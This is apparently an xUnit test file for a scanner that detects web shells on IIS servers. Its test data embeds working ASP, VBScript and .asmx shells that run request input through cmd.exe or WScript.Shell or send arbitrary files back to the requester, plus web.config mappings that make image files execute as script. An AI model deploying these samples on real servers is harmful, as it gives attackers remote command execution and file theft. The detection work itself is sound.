using System.Collections.Generic;
using System.Linq;
using System.Text;
using System.Threading;
using HafniumTools.Files;
using HafniumTools.Model;
using Xunit;

namespace HafniumTools.Tests.Files;

/// <summary>
/// Issue 11, items 1 to 3: request input followed through user-defined functions, every extension IIS executes
/// (handler mappings of the tree's web.config files included), and data-theft sinks; with the benign look-alikes that
/// must stay below Medium and mutated forms of each shell.
/// </summary>
public class WebShellDepthTests
{
    private static readonly WebShellScanner Scanner = new();

    private static IReadOnlyList<Finding> Judge(string name, string content) =>
        Scanner.Classify(FileFixtures.AspnetClient + @"system_web\" + name, content);

    private static void AssertCompromise(IReadOnlyList<Finding> findings, string ruleId)
    {
        var hit = Assert.Single(findings, f => f.RuleId == ruleId);
        Assert.Equal(Verdict.Compromise, hit.Verdict);
        Assert.True(hit.Severity >= Severity.High, hit.ToString());
        Assert.NotNull(hit.LineNumber);
    }

    [Theory]
    [InlineData("vbs-function-runner.config", "HT-WS-006")]
    [InlineData("vb-helper-runner.aspx", "HT-WS-006")]
    [InlineData("jscript-helper-exec.asp", "HT-WS-006")]
    [InlineData("csharp-source-helper.aspx", "HT-WS-006")]
    [InlineData("chopper-service.soap", "HT-WS-001")]
    [InlineData("download-writefile.aspx", "HT-WS-015")]
    [InlineData("binarywrite-readallbytes.aspx", "HT-WS-015")]
    [InlineData("classic-stream-download.asp", "HT-WS-015")]
    [InlineData("copy-to-webroot.aspx", "HT-WS-015")]
    [InlineData("file-browser.aspx", "HT-WS-016")]
    [InlineData("sql-console.aspx", "HT-WS-017")]
    [InlineData("classic-sql.asp", "HT-WS-017")]
    public void Shells_one_step_removed_from_the_request_are_a_high_compromise(string fixture, string ruleId)
    {
        AssertCompromise(Scanner.Classify(FileFixtures.AspnetClient + @"system_web\" + fixture, FileFixtures.ShellBytes(fixture)), ruleId);
    }

    [Theory]
    [InlineData("admin-process-list.aspx")]
    [InlineData("fixed-downloads.aspx")]
    [InlineData("fixed-sql-report.aspx")]
    [InlineData("helper-functions.aspx")]
    [InlineData("classic-helpers.asp")]
    [InlineData("site-web.config")]
    public void Admin_pages_that_look_alike_stay_below_medium(string fixture)
    {
        foreach (string folder in new[] { @"C:\inetpub\wwwroot\", FileFixtures.AspnetClient })
        {
            var findings = Scanner.Classify(folder + fixture, FileFixtures.BenignBytes(fixture));
            Assert.DoesNotContain(findings, f => f.Severity >= Severity.Medium);
            Assert.DoesNotContain(findings, f => f.Verdict == Verdict.Compromise);
        }
    }

    [Fact]
    public void The_web_config_shell_is_reported_for_its_code_and_for_its_mapping()
    {
        var findings = Scanner.Classify(FileFixtures.AspnetClient + "web.config", FileFixtures.ShellBytes("vbs-function-runner.config"));

        AssertCompromise(findings, "HT-WS-006");
        var mapping = Assert.Single(findings, f => f.RuleId == "HT-WS-034");
        Assert.Equal(Severity.Medium, mapping.Severity);
        Assert.Contains(".config", mapping.Detail, System.StringComparison.Ordinal);
    }

    [Fact]
    public void The_china_chopper_service_is_judged_alike_as_asmx_and_soap()
    {
        byte[] shell = FileFixtures.ShellBytes("chopper-service.soap");
        var soap = Judge("Metrics.soap", Encoding.UTF8.GetString(shell));
        var asmx = Judge("Metrics.asmx", Encoding.UTF8.GetString(shell));

        Assert.Equal(asmx.Max(f => f.Severity), soap.Max(f => f.Severity));
        Assert.Equal(Severity.Critical, soap.Max(f => f.Severity));
    }

    [Fact]
    public void A_web_service_method_parameter_is_request_input()
    {
        const string service = "<%@ WebService Language=\"C#\" Class=\"Ops\" %>\nusing System.Diagnostics;\nusing System.Web.Services;\n"
            + "public class Ops : WebService\n{\n    [WebMethod(Description = \"status\")]\n    public string Status(string target)\n    {\n"
            + "        var psi = new ProcessStartInfo(\"cmd.exe\", \"/c \" + target);\n        return Process.Start(psi).StandardOutput.ReadToEnd();\n    }\n}\n";

        AssertCompromise(Judge("ops.asmx", service), "HT-WS-006");
        AssertCompromise(Judge("ops.soap", service), "HT-WS-006");
    }

    // Mutations of the VBScript function shell: case, spacing, a call without parentheses, Call, a Sub, renamed names.
    [Theory]
    [InlineData("<%\nFUNCTION doit(ARG)\n  SET o = SERVER.CREATEOBJECT(\"wscript.shell\")\n  doit = o.EXEC(arg).stdout.readall\nEND FUNCTION\nresponse.write doit(REQUEST(\"x\"))\n%>")]
    [InlineData("<%\nSub Tell(byval c)\n  Set s = CreateObject(\"WScript.Shell\")\n  Response.Write s.Exec(c).StdOut.ReadAll()\nEnd Sub\nTell Request.Form(\"c\")\n%>")]
    [InlineData("<%\nSub Tell( c )\n  Dim s : Set s = CreateObject(\"WScript.Shell\")\n  s.Run c, 0, True\nEnd Sub\nCall Tell(Request.QueryString(\"c\"))\n%>")]
    [InlineData("<%\nv = Request(\"q\")\nrunner v\nPrivate Function runner(ByRef t)\n  Set w = Server.CreateObject(\"WScript.Shell\")\n  w.Run t\nEnd Function\n%>")]
    public void Mutated_vbscript_function_shells_are_still_command_runners(string page)
    {
        AssertCompromise(Judge("cmd.asp", page), "HT-WS-006");
        AssertCompromise(Scanner.Classify(FileFixtures.AspnetClient + "web.config", "<configuration/>\n<!--\n" + page + "\n-->"), "HT-WS-006");
    }

    [Theory]
    [InlineData("Response.WriteFile(Request[\"f\"]);")]
    [InlineData("Response . TransmitFile ( Request.Form[\"f\"] ) ;")]
    [InlineData("var p = Request.QueryString[\"f\"]; var b = System.IO.File.ReadAllBytes(p); Response.BinaryWrite(b);")]
    public void Mutated_file_theft_is_still_found(string code)
    {
        AssertCompromise(Judge("get.aspx", "<%@ Page Language=\"C#\" %>\n<% " + code + " %>"), "HT-WS-015");
    }

    [Theory]
    [InlineData("// Response.WriteFile(Request[\"f\"]);\nResponse.Write(\"disabled\");")]
    [InlineData("/* Process.Start(\"cmd.exe\", \"/c \" + Request[\"c\"]); */ Response.Write(\"ok\");")]
    [InlineData("Response.WriteFile(Server.MapPath(\"~/files/\" + Request[\"f\"]));")]
    [InlineData("var cmd = new System.Data.SqlClient.SqlCommand(\"SELECT * FROM Items WHERE Name = '\" + Request[\"n\"] + \"'\", db);")]
    [InlineData("var text = new System.IO.StreamReader(Request.InputStream).ReadToEnd(); Response.Write(text.Length);")]
    public void Commented_confined_or_fixed_uses_are_not_shells(string code)
    {
        var findings = Judge("page.aspx", "<%@ Page Language=\"C#\" %>\n<% " + code + " %>");

        Assert.DoesNotContain(findings, f => f.Verdict == Verdict.Compromise);
    }

    [Fact]
    public void A_parameter_is_request_input_only_in_the_function_that_received_it()
    {
        const string page = "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\n"
            + "string Show(string value) { return Server.HtmlEncode(value); }\n"
            + "void Restart(string value) { System.Diagnostics.Process.Start(\"net.exe\", \"stop \" + value); }\n"
            + "protected void Page_Load(object s, EventArgs e) { Label1.Text = Show(Request[\"u\"]); Restart(\"W3SVC\"); }\n</script>";
        const string shell = "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\n"
            + "string Show(string value) { return Server.HtmlEncode(value); }\n"
            + "void Restart(string value) { System.Diagnostics.Process.Start(\"net.exe\", \"stop \" + value); }\n"
            + "protected void Page_Load(object s, EventArgs e) { Label1.Text = Show(\"x\"); Restart(Request[\"u\"]); }\n</script>";

        Assert.DoesNotContain(Judge("admin.aspx", page), f => f.Verdict == Verdict.Compromise);
        AssertCompromise(Judge("admin.aspx", shell), "HT-WS-006");
    }

    [Fact]
    public void A_static_extension_mapped_by_a_web_config_of_the_tree_is_analysed_as_code()
    {
        using var tree = new TempTree();
        string page = "GIF89a\n<%\nFunction Z(a)\n  Set x = Server.CreateObject(\"WScript.Shell\")\n  Z = x.Exec(a).StdOut.ReadAll\nEnd Function\nResponse.Write Z(Request(\"i\"))\n%>";
        tree.Write("inetpub/wwwroot/images/web.config", "<configuration><system.webServer><handlers>"
            + "<add name=\"img\" path=\"*.gif\" verb=\"*\" modules=\"IsapiModule\" scriptProcessor=\"%windir%\\system32\\inetsrv\\asp.dll\" resourceType=\"Unspecified\" />"
            + "</handlers></system.webServer></configuration>");
        tree.Write("inetpub/wwwroot/images/sub/logo.gif", page);
        tree.Write("inetpub/wwwroot/other/logo.gif", page);

        var sink = new RecordingSink();
        FileScan.WebShells([new ScanRoot(tree.Root)], new FileScanOptions { ThrottleLimit = 2 }, sink, CancellationToken.None);

        var runner = Assert.Single(sink.Findings, f => f.RuleId == "HT-WS-006");
        Assert.EndsWith("logo.gif", runner.Path, System.StringComparison.Ordinal);
        Assert.Contains("images", runner.Path, System.StringComparison.Ordinal);
        var mapping = Assert.Single(sink.Findings, f => f.RuleId == "HT-WS-034");
        Assert.Contains(".gif", mapping.Detail, System.StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("<add name=\"a\" path=\"*.jpg\" verb=\"*\" scriptProcessor=\"C:\\Windows\\system32\\inetsrv\\asp.dll\" />", ".jpg")]
    [InlineData("<add path=\"web.config\" type=\"System.Web.UI.PageHandlerFactory\" verb=\"*\" />", ".config")]
    [InlineData("<buildProviders><add extension=\".txt\" type=\"System.Web.Compilation.PageBuildProvider\" /></buildProviders>", ".txt")]
    public void Handler_mappings_to_a_script_engine_are_read_from_web_config(string element, string extension)
    {
        Assert.Contains(extension, HandlerMappings.UnexpectedScriptExtensions("<configuration>" + element + "</configuration>"));
    }

    [Fact]
    public void Page_mappings_and_static_handlers_are_not_unexpected()
    {
        Assert.Empty(HandlerMappings.UnexpectedScriptExtensions(System.Text.Encoding.UTF8.GetString(FileFixtures.BenignBytes("site-web.config"))));
        Assert.Contains(".asmx", HandlerMappings.ScriptExtensions(System.Text.Encoding.UTF8.GetString(FileFixtures.BenignBytes("site-web.config"))));
    }
}
